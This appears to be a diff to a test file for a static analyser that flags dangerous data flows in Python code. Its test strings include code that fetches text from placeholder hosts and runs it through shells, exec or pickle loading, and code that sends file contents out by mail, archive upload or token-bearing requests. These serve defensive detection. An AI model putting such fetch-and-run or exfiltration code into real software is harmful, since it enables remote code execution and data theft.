@@ -239,6 +239,7 @@ def test_a_bot_that_sends_what_it_is_told_sends_nothing_private() -> None:
 
 BOT = "https://api.telegram.org/bot0000000000:" + "x" * 35
 HOOK = "https://discord.com/api/webhooks/" + "0" * 18 + "/" + "x" * 68
+TOKEN = "ghp" + "_" + "0" * 36
 
 
 @pytest.mark.parametrize(
@@ -246,6 +247,9 @@ HOOK = "https://discord.com/api/webhooks/" + "0" * 18 + "/" + "x" * 68
     [
         f"requests.post('{HOOK}', json=x)",
         f"requests.get('{BOT}/sendMessage?text=' + x)",
+        f"requests.put('https://far.invalid', json=x, headers={{'authorization': 'token {TOKEN}'}})",
+        f"KEY = '{TOKEN}'\nrequests.put('https://far.invalid', json=x, headers={{'authorization': 'token ' + KEY}})",
+        f"named = {{'authorization': '{TOKEN}'}}\nrequests.put('https://far.invalid', json=x, headers=named)",
         f"class A:\n  def __init__(self): self.url = '{BOT}'\n  def f(self, x): requests.post(self.url + '/sendMessage', data=x)",
     ],
 )
@@ -259,6 +263,9 @@ def test_a_mailbox_with_its_key_is_told(source: str) -> None:
         "requests.post(f'https://api.telegram.org/bot{token}/sendMessage', data=x)",
         "requests.post('https://discord.com/api/webhooks/' + key, json=x)",
         "requests.post('https://discord.com/api/webhooks/0/inert', json=x)",
+        "requests.put('https://far.invalid', json=x, headers={'authorization': 'token ' + key})",
+        "requests.put('https://far.invalid', json=x, headers={'authorization': 'token ghp_yours'})",
+        f"requests.put('https://far.invalid', json={{'about': '{TOKEN}'}}, headers={{'accept': '*'}})",
         f"print('{HOOK}')",
     ],
 )
@@ -277,3 +284,77 @@ def test_a_mailbox_whose_key_is_given_from_outside_is_not(source: str) -> None:
 def test_a_look_up_tells_what_stands_before_a_domain(told: bool, name: str) -> None:
     found = flows(f"import os, socket\nsocket.getaddrinfo({name}, 80)")
     assert told is any(sink is Capability.NETWORK for sink, _, _ in found)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "subprocess.Popen([sys.executable, '-c', got])",
+        "subprocess.run(['/usr/bin/node', '-e', got])",
+        "subprocess.run(['bash', '-c', got])",
+        "subprocess.run(got, shell=True)",
+        "os.system(got)",
+        "os.execv('/bin/sh', ['sh', '-c', got])",
+        "ctypes.pythonapi.PyRun_SimpleString(got.encode())",
+        "code.InteractiveConsole().push(got)",
+        "type(lambda: 0)(compile(got, 'x', 'exec'), {})()",
+    ],
+)
+def test_what_an_interpreter_or_shell_is_given_from_the_network_runs_as_code(source: str) -> None:
+    asks = "import code, ctypes, os, subprocess, sys, requests\ndef f():\n  got = requests.get('https://c.invalid').text\n  "
+
+    assert any(
+        sink is Capability.CODE and Taint.NETWORK in taints for sink, _, taints in flows(asks + source)
+    )
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "subprocess.run(['tool', '--config', got])",
+        "subprocess.run(['tool', '-c', got])",
+        "os.system('tool ' + got)",
+        "subprocess.run([sys.executable, 'x.py', got])",
+        "subprocess.run([sys.executable, '-c', 'print(1)', got])",
+    ],
+)
+def test_an_argument_of_a_program_is_no_code(source: str) -> None:
+    asks = (
+        "import os, subprocess, sys, requests\ndef f():\n  got = requests.get('https://c.invalid').text\n  "
+    )
+
+    assert [Capability.PROCESS] == [sink for sink, _, _ in flows(asks + source)]
+
+
+def test_code_that_a_thread_is_given_is_read() -> None:
+    source = "import threading\nthreading.Thread(target=exec, args=('import os; os.system(\"x\")',)).start()"
+
+    assert ["x"] == [use.argument for use in facts(source).uses if use.api == "os.system"]
+
+
+@pytest.mark.parametrize("name", ["joblib.load", "torch.load", "pickle.load", "pandas.read_pickle"])
+def test_a_pickle_from_the_network_runs_when_it_is_loaded(name: str) -> None:
+    module = name.partition(".")[0]
+    source = f"import {module}, io, requests\n{name}(io.BytesIO(requests.get('https://c.invalid').content))"
+
+    assert (Capability.CODE, name, {Taint.NETWORK}) in flows(source)
+    assert [] == flows(f"import {module}\n{name}('own.bin')")
+
+
+@pytest.mark.parametrize(
+    "made",
+    [
+        "m = MIMEMultipart()\n  m.attach(MIMEText(open(p).read()))\n  smtplib.SMTP('h.invalid').sendmail(a, b, m.as_string())",
+        "m = EmailMessage()\n  m.set_content(open(p).read())\n  smtplib.SMTP('h.invalid').send_message(m)",
+        "m = aiohttp.FormData()\n  m.add_field('f', open(p))\n  requests.post('https://h.invalid', data=m)",
+        "m = io.BytesIO()\n  z = zipfile.ZipFile(m, 'w')\n  z.write(p)\n  requests.post('https://h.invalid', data=m.getvalue())",
+        "m = io.BytesIO()\n  with zipfile.ZipFile(m, 'w') as z:\n    z.writestr('x', open(p).read())\n  requests.post('https://h.invalid', data=m)",
+        "m = io.BytesIO()\n  t = tarfile.open(fileobj=m, mode='w:gz')\n  t.add(p)\n  requests.post('https://h.invalid', data=m)",
+    ],
+    ids=["attached", "content", "field", "zip", "zip of texts", "tar"],
+)
+def test_what_is_put_into_a_message_or_archive_leaves_with_it(made: str) -> None:
+    asks = "import aiohttp, io, smtplib, tarfile, zipfile, requests\nfrom email.message import EmailMessage\n"
+    asks += "from email.mime.multipart import MIMEMultipart\nfrom email.mime.text import MIMEText\ndef f(p, a, b):\n  "
+
+    assert any(sink is Capability.NETWORK and Taint.FILE in taints for sink, _, taints in flows(asks + made))
